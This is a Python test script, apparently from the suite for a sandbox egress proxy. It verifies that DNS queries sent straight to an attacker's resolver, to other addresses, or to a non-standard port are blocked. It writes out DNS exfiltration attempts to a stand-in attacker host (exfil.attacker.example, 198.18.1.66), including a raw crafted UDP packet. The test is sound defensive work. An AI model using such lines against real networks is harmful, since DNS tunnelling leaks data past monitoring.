# what: DNS straight to another resolver's address (the attacker's server, an allowed server, the lab host) over UDP and TCP 53, and to a non-standard DNS port
# include: dns
# expect-denied: r1-6578.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: r2-6578.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: r3-6578.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: r4-6578.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: 198.18.1.66 5353 udp protocol_not_allowed
# expect-stdout: DONE 5 blocked
import os, random, socket, struct


# Whatever address a query is sent to on port 53, proxyd's DNS server
# answers it (the redirect ignores the destination): the attacker's own
# resolver is never reached, and the name never leaves. Another port is
# not DNS at all: UDP past the proxy, dropped and audited from NFLOG.
import socket

blocked = 0
for what, name, server, tcp in [
        ("UDP to the attacker's address", "r1-6578.exfil.attacker.example", "198.18.1.66", False),
        ("TCP to the attacker's address", "r2-6578.exfil.attacker.example", "198.18.1.66", True),
        ("UDP to an allowed server's address", "r3-6578.exfil.attacker.example", "198.18.1.10", False),
        ("UDP to the lab host's address", "r4-6578.exfil.attacker.example", "198.18.0.1", False)]:
    try:
        rcode, an = dns_query(name, server=server, tcp=tcp)
    except OSError as e:
        print("LEAK? no answer:", what, e)
        continue
    if rcode == 3 and an == 0:
        blocked += 1
        print("BLOCKED", what, "NXDOMAIN from proxyd")
    else:
        print("LEAK", what, "rcode", rcode, "answers", an)
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
             b"\x02r5\x05exfil\x08attacker\x07example\x00\x00\x01\x00\x01",
             ("198.18.1.66", 5353))
    s.recvfrom(512)
    print("LEAK an answer from 198.18.1.66:5353")
except OSError as e:
    blocked += 1
    print("BLOCKED UDP to 198.18.1.66:5353:", type(e).__name__)
print("DONE", blocked, "blocked")
